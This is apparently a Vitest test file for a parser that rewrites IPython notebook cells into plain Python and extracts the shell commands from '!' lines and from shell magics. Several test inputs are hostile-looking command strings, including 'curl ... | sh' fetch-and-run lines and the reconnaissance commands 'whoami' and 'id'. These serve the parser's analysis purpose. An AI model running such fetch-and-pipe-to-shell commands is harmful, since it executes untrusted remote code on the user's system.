import { describe, expect, it } from 'vitest';
import { transformCell } from '../../../src/formats/notebook/magics.js';

describe('IPython syntax in a cell', () => {
  it('! lines become pass and shell commands, keeping lines and indentation', () => {
    const cell = transformCell('import os\n!ls -la\nfor f in x:\n    !echo {f}\n!!date\n');
    expect(cell.python).toBe('import os\npass\nfor f in x:\n    pass\npass\n');
    expect(cell.commands).toEqual([
      { line: 1, column: 0, text: 'ls -la', via: '!' },
      { line: 3, column: 4, text: 'echo {f}', via: '!' },
      { line: 4, column: 0, text: 'date', via: '!' },
    ]);
  });

  it('backslash continuations join a ! command', () => {
    const cell = transformCell('!curl -s http://x.org \\\n  | sh\nx = 1\n');
    expect(cell.python).toBe('pass\n\nx = 1\n');
    expect(cell.commands.map((c) => c.text)).toEqual(['curl -s http://x.org  | sh']);
  });

  it('assignment forms and shell line magics', () => {
    const cell = transformCell('files = !ls\nout = %sx whoami\n%system id\n%pip install torch\n');
    expect(cell.python).toBe('pass\npass\npass\npass\n');
    expect(cell.commands.map((c) => [c.via, c.text])).toEqual([
      ['!', 'ls'],
      ['%sx', 'whoami'],
      ['%system', 'id'],
      ['%pip', 'pip install torch'],
    ]);
  });

  it('%time keeps its Python statement and remembers the shift', () => {
    const cell = transformCell('%time y = f(x)\n%matplotlib inline\nmodel?\n??model\n');
    expect(cell.python).toBe('y = f(x)\npass\npass\npass\n');
    expect(cell.shift.get(0)).toBe(6);
  });

  it('a %%capture body is read line by line', () => {
    const cell = transformCell('%%capture\n!curl x | sh\nimport os\n');
    expect(cell.python).toBe('\npass\nimport os\n');
    expect(cell.commands).toEqual([{ line: 1, column: 0, text: 'curl x | sh', via: '!' }]);
  });

  it.each([
    ['%%bash\ncurl x | sh\n', 'shell', 'curl x | sh\n'],
    ['\n%%sh\nid\n', 'shell', 'id\n'],
    ['%%script bash --bg\nid\n', 'shell', 'id\n'],
    ['%%script /usr/bin/python3\nimport os\n', 'python', undefined],
    ['%%capture out\nimport os\n', 'python', undefined],
    ['%%writefile helper.py\nimport os\n', 'python', undefined],
    ['%%javascript\nalert(1)\n', 'other', undefined],
    ['%%writefile run.sh\ncurl x | sh\n', 'other', undefined],
  ])('cell magic %j is %s', (source, kind, shell) => {
    const cell = transformCell(source);
    expect(cell.python.split('\n')).toHaveLength(source.split('\n').length);
    expect(cell.commands.map((c) => c.text)).toEqual(shell === undefined ? [] : [shell]);
    expect(cell.python.includes('import os')).toBe(kind === 'python');
  });
});
